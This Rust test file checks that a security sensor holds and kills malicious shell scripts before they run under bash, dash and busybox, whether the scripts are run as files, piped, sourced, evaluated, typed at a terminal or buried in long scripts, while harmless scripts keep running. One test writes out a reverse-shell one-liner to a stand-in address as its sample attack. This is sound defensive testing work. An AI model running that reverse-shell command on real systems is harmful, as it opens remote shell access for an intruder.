//! `--respond hold`: nothing of a malicious script runs, harmless ones run as ever.

use std::{
    fs,
    os::unix::process::{CommandExt, ExitStatusExt},
    path::Path,
    process::Command,
};

use nix::{
    errno::Errno,
    sys::{
        ptrace,
        signal::Signal,
        wait::{WaitStatus, waitpid},
    },
    unistd::Pid,
};

use e2e::{
    cgroup::enter,
    daemon::is_emulated,
    drill::property,
    holding::{attack, container, inside, wait_for_holds},
    node::Node,
    shell::quiet,
    terminal::Terminal,
};

#[test]
fn nothing_of_a_malicious_script_runs_however_it_comes() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd1);
    let marker = |name: &str| node.path(&format!("ran-{name}"));
    wait_for_holds(&node, &cgroup);
    let file = |name: &str| {
        let text = attack(name, &marker(name));
        node.file(&format!("{name}.sh"), text.as_bytes()).expect("a file").display().to_string()
    };
    let mut killed = Vec::new();
    let mut run = |name: &str, mut command: Command| {
        let status = command.status().expect("a shell");
        killed.push((name.to_owned(), status, marker(name).exists()));
    };
    for shell in ["bash", "dash"] {
        let program = format!("/bin/{shell}");
        let name = format!("{shell}-file");
        run(&name, inside(&cgroup, &program, &[&file(&name)]));
        let name = format!("{shell}-command");
        run(&name, inside(&cgroup, &program, &["-c", &attack(&name, &marker(&name))]));
        let name = format!("{shell}-piped");
        let mut piped = inside(&cgroup, &program, &[]);
        piped.stdin(fs::File::open(file(&name)).expect("a file"));
        run(&name, piped);
        let name = format!("{shell}-sourced");
        run(&name, inside(&cgroup, &program, &["-c", &format!(". {}", file(&name))]));
        // By the shell's own commands: no fork is needed to read the text.
        let name = format!("{shell}-evaluated");
        let text = format!("read -r line < {}; eval \"$line\"", file(&name));
        run(&name, inside(&cgroup, &program, &["-c", &text]));
    }
    // A subshell is held by itself.
    let name = "bash-subshell-evaluated";
    let text = format!("read -r line < {}; (eval \"$line\"; :)", file(name));
    run(name, inside(&cgroup, "/bin/bash", &["-c", &text]));
    let name = "bash-pipe";
    let mut cat = Command::new("cat");
    let mut cat = cat.arg(file(name)).stdout(std::process::Stdio::piped()).spawn().expect("cat");
    let mut piped = inside(&cgroup, "/bin/bash", &[]);
    piped.stdin(cat.stdout.take().expect("a pipe"));
    run(name, piped);
    cat.wait().expect("its end");
    let findings = node.wait_for(|all| all.len() >= killed.len()).expect("findings");
    // An emulated machine now and then keeps the sensor from saying in time that it is alive, or from judging in time. Who is
    // not held for it is counted, and found all the same.
    let mut not_held = Vec::new();
    for (name, status, ran) in &killed {
        let ran_before = property(&findings, name, "Response_Ran_Before");
        if ran_before == "unknown" {
            not_held.push((name, ran, property(&findings, name, "Response_Action")));
            continue;
        }
        assert!(!ran, "{name} ran\n{}", node.log());
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{name}: {status}");
        assert_eq!(property(&findings, name, "Response_Action"), "killed", "{name}");
        // What sourced or evaluated it had run.
        let expected =
            if name.ends_with("sourced") || name.ends_with("evaluated") { "part" } else { "nothing" };
        assert_eq!(ran_before, expected, "{name}");
        assert!(
            property(&findings, name, "Response_Held_Ms").as_f64().is_some_and(|ms| ms < 1_000.0),
            "{name}"
        );
    }
    let outcome = node.finish().expect("an outcome");
    let missed =
        outcome.total("holds_total{outcome=\"timed_out\"}") + outcome.total("kernel_holds_stale_total");
    assert!(not_held.len() as u64 <= missed, "{not_held:?} were not held, and {missed} are counted");
    assert!(missed == 0 || is_emulated(), "{missed} were not held");
}

#[test]
fn what_looks_like_a_glance_or_like_data_is_held_when_it_is_run() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd6);
    wait_for_holds(&node, &cgroup);
    let run = |mut command: Command| {
        let status = command.current_dir(node.dir.path()).status().expect("a shell");
        assert!(!node.path("m").exists(), "it ran\n{}", node.log());
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{status}\n{}", node.log());
    };
    // bash looks at the first 80 bytes of a file before it reads it. Here that is all of it.
    let text = format!("{:79}\n", "echo>m; : || bash -i >& /dev/tcp/192.0.2.1/44 0>&1; #");
    assert_eq!(text.len(), 80);
    let file = node.file("eighty.sh", text.as_bytes()).expect("a file").display().to_string();
    run(inside(&cgroup, "/bin/bash", &[&file]));
    // What one shell reads as data another one in its place, or a later command, runs.
    let lines = node.file("lines", format!("data\n{}", attack("lines", &node.path("m"))).as_bytes());
    let lines = lines.expect("a file").display().to_string();
    for shell in ["bash", "dash"] {
        let program = format!("/bin/{shell}");
        let mut cat =
            Command::new("cat").arg(&lines).stdout(std::process::Stdio::piped()).spawn().expect("cat");
        let mut piped = inside(&cgroup, &program, &["-c", &format!("read -r x; exec {shell}")]);
        piped.stdin(cat.stdout.take().expect("a pipe"));
        run(piped);
        cat.wait().expect("its end");
    }
    // A binary of many programs, seen for the first time.
    let copy = node.path("busybox");
    fs::copy("/bin/busybox", &copy).expect("a copy");
    let many = node.file("many.sh", attack("many", &node.path("m")).as_bytes()).expect("a file");
    run(inside(&cgroup, &copy.to_string_lossy(), &["sh", &many.to_string_lossy()]));
    let evil = node.file("evil", attack("evil", &node.path("m")).as_bytes()).expect("a file");
    run(inside(&cgroup, "/bin/dash", &["-c", &format!("read -r x < {0}; . {0}", evil.display())]));
    node.finish().expect("an outcome");
}

#[test]
fn nothing_deep_in_a_long_script_runs_unjudged() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xdd);
    wait_for_holds(&node, &cgroup);
    let filler = |bytes: usize| ": one more harmless line of a long script\n".repeat(bytes / 42);
    for (shell, name) in [("/bin/bash", "bash"), ("/bin/dash", "dash")] {
        let marker = node.path(&format!("ran-{name}"));
        let before = node.path(&format!("before-{name}"));
        // In the middle of a block, far from where the text doubles.
        let text = format!(
            "echo > {}\n{}{}{}",
            before.display(),
            filler(150_000),
            attack(name, &marker),
            filler(60_000)
        );
        let file = node.file(&format!("{name}.sh"), text.as_bytes()).expect("a file");
        let status = inside(&cgroup, shell, &[&file.to_string_lossy()]).status().expect("a shell");
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{name}: {status}\n{}", node.log());
        assert!(before.exists() && !marker.exists(), "{name}\n{}", node.log());
        let name = format!("{name}-lines");
        let marker = node.path(&format!("ran-{name}"));
        let text = format!("{}{}{}", filler(30_000), attack(&name, &marker), filler(5_000));
        let mut cat = Command::new("cat")
            .arg(node.file(&name, text.as_bytes()).expect("a file"))
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("cat");
        let mut piped = inside(&cgroup, shell, &[]);
        let status = piped.stdin(cat.stdout.take().expect("a pipe")).status().expect("a shell");
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{name}: {status}\n{}", node.log());
        assert!(!marker.exists(), "{name}\n{}", node.log());
        cat.wait().expect("its end");
    }
    let findings = node.wait_for(|all| all.len() >= 4).expect("findings");
    for name in ["bash", "dash", "bash-lines", "dash-lines"] {
        assert_eq!(property(&findings, name, "Response_Action"), "killed");
        assert_eq!(property(&findings, name, "Response_Ran_Before"), "part", "{name}");
    }
    node.finish().expect("an outcome");
}

#[test]
fn a_line_typed_at_a_terminal_is_held_before_it_runs() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    node.file(".bashrc", b"PS1='READY> '\n").expect("a file");
    let cgroup = container(0xd7);
    wait_for_holds(&node, &cgroup);
    for (program, args) in [("/bin/bash", &["-i"][..]), ("/bin/dash", &["-i"])] {
        let name = program.trim_start_matches("/bin/");
        let marker = node.path(&format!("ran-{name}"));
        let mut terminal =
            Terminal::start_in(Some(&cgroup.procs()), program, args, node.dir.path()).expect("a terminal");
        terminal.enter(b"echo hello\r").expect("a prompt");
        let line = attack(name, &marker).replace('\n', "\r");
        terminal.leave(line.as_bytes()).expect("its end");
        assert!(!marker.exists(), "{name}\n{}", node.log());
    }
    let findings = node.wait_for(|all| all.len() >= 2).expect("findings");
    for name in ["bash", "dash"] {
        assert_eq!(property(&findings, name, "Response_Action"), "killed");
        assert_eq!(property(&findings, name, "Response_Ran_Before"), "part");
    }
    node.finish().expect("an outcome");
}

#[test]
fn harmless_scripts_run_as_ever_and_others_are_not_stopped() {
    let node = Node::start(&["--respond", "hold", "--threshold", "0.99"]).expect("a node");
    let cgroup = container(0xd2);
    let output = |mut command: Command| {
        let output = command.stdout(std::process::Stdio::piped()).output().expect("a shell");
        assert!(output.status.success(), "{:?}\n{}", output.status, node.log());
        String::from_utf8(output.stdout).expect("UTF-8")
    };
    let data = node.file("data", "one\ntwo\n".repeat(200).as_bytes()).expect("a file");
    let read = format!("cat {} | {{ n=0; while read -r l; do n=$((n+1)); done; echo $n; }}", data.display());
    assert_eq!(output(inside(&cgroup, "/bin/bash", &["-c", &read])), "400\n");
    assert_eq!(output(inside(&cgroup, "/bin/dash", &["-c", &read])), "400\n");
    // With job control a parent would take a stop for the end of its job: it is not stopped.
    let jobs = "set -m; bash -c 'echo job'; bash -c 'echo other' & wait; jobs";
    assert_eq!(output(inside(&cgroup, "/bin/bash", &["-c", jobs])), "job\nother\n");
    let noticed = node.reading("kernel_holds_noticed_total").expect("a counter");
    assert!(noticed > 0);
    // It stops itself when its child is stopped, and waits for somebody to continue it.
    if Path::new("/bin/su").exists() {
        let user = inside(&cgroup, "su", &["root", "-s", "/bin/bash", "-c", "echo user"]);
        assert_eq!(output(user), "user\n");
        assert!(node.reading("kernel_holds_noticed_total").expect("a counter") > noticed);
    } else {
        eprintln!("there is no su in this guest: not tried");
    }
    let before = node.reading("kernel_holds_total").expect("a counter");
    assert!(before > 0);
    // The node's own shells.
    for _ in 0..20 {
        assert!(quiet("/bin/bash").args(["-c", ":"]).status().expect("a shell").success());
    }
    assert_eq!(node.reading("kernel_holds_total").expect("a counter"), before);
    node.finish().expect("an outcome");
}

/// Makes the process that is about to execute the first of a PID namespace of its own. Its parent, which waits for it, stays where
/// it is, as a container's does.
fn begin_namespace() -> std::io::Result<()> {
    // SAFETY: between fork and exec, with system calls only.
    unsafe {
        if libc::unshare(libc::CLONE_NEWPID) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        match libc::fork() {
            0 => Ok(()),
            child => {
                let mut status = 0;
                libc::waitpid(child, &raw mut status, 0);
                let killed = libc::WIFSIGNALED(status);
                libc::_exit(if killed { 128 + libc::WTERMSIG(status) } else { libc::WEXITSTATUS(status) })
            }
        }
    }
}

#[test]
fn a_containers_first_process_is_held_and_left_alive() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd7);
    wait_for_holds(&node, &cgroup);
    let marker = node.path("ran");
    let text = attack("first", &marker);
    let mut command = quiet("/bin/bash");
    command.args(["-c", &text]);
    // SAFETY: see there.
    unsafe { command.pre_exec(begin_namespace) };
    enter(&mut command, &cgroup.procs());
    let status = command.status().expect("a shell");
    // It was judged before it ran, and goes on: killing it would end the container.
    assert_eq!(status.code(), Some(0), "{}", node.log());
    assert!(marker.exists());
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(property(&findings, "first", "Response_Action"), "left_init");
    assert_eq!(property(&findings, "first", "Response_Ran_Before"), "nothing");
    assert_eq!(node.finish().expect("an outcome").total("holds_total{outcome=\"timed_out\"}"), 0);
}

#[test]
fn a_debugger_notices_nothing_of_holds() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd8);
    wait_for_holds(&node, &cgroup);
    let text = format!("{}; sleep 60", attack("traced", &node.path("ran")).trim_end());
    let mut command = inside(&cgroup, "/bin/bash", &["-c", &text]);
    // SAFETY: a plain system call between fork and exec.
    unsafe { command.pre_exec(|| ptrace::traceme().map_err(Into::into)) };
    let mut child = command.spawn().expect("a shell");
    let pid = Pid::from_raw(i32::try_from(child.id()).expect("a process id"));
    // Not held: a stop would look to the debugger as if somebody had sent a signal. Killed at its verdict.
    loop {
        match waitpid(pid, None).expect("the shell's state") {
            WaitStatus::Stopped(_, Signal::SIGTRAP) => match ptrace::cont(pid, None) {
                // It may be killed while it is stopped.
                Ok(()) | Err(Errno::ESRCH) => {}
                Err(e) => panic!("it does not go on: {e}"),
            },
            WaitStatus::Stopped(_, signal) => {
                assert_ne!(signal, Signal::SIGCONT, "it was stopped and continued");
                // The kill stops what it ends, too.
                let _ = ptrace::cont(pid, signal);
            }
            WaitStatus::Signaled(_, signal, _) => {
                assert_eq!(signal, Signal::SIGKILL);
                break;
            }
            WaitStatus::Exited(_, code) => panic!("it exited with {code}\n{}", node.log()),
            _ => {}
        }
    }
    // It was waited for above.
    let _ = child.wait();
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(property(&findings, "traced", "Response_Ran_Before"), "unknown");
    assert!(node.finish().expect("an outcome").total("kernel_holds_noticed_total") > 0);
}

#[test]
fn a_container_that_keeps_too_much_is_held_all_the_same() {
    let node = Node::start(&["--respond", "hold", "--total-bytes", "1048576"]).expect("a node");
    let cgroup = container(0xde);
    wait_for_holds(&node, &cgroup);
    // Shells that wait, and keep more than the share of their container.
    let long = node.file("long", ": a line that takes room\n".repeat(4000).as_bytes()).expect("a file");
    let text = format!(". {}; read -r _; :", long.display());
    let wait = |_| {
        let mut command = inside(&cgroup, "/bin/bash", &["-c", &text]);
        command.stdin(std::process::Stdio::piped());
        command.spawn().expect("a shell")
    };
    let mut shells: Vec<_> = (0..20).map(wait).collect();
    let is_full =
        || node.reading("script_cut_bytes_total{reason=\"total_limit\"}").is_ok_and(|bytes| bytes > 0);
    node.wait_until(is_full).expect("their share is full");
    for (round, shell) in ["/bin/dash", "/bin/bash", "/bin/dash", "/bin/bash"].into_iter().enumerate() {
        let marker = node.path(&format!("ran-full-{round}"));
        let padding = if round < 2 { String::new() } else { ": padding\n".repeat(3000) };
        let script = format!("{padding}{}", attack(&format!("full-{round}"), &marker));
        let file = node.file(&format!("full-{round}.sh"), script.as_bytes()).expect("a file");
        let status = inside(&cgroup, shell, &[&file.to_string_lossy()]).status().expect("a shell");
        assert!(!marker.exists(), "{shell} {round} ran\n{}", node.log());
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{shell} {round}");
    }
    for shell in &mut shells {
        drop(shell.stdin.take());
        shell.wait().expect("its end");
    }
    node.finish().expect("an outcome");
}
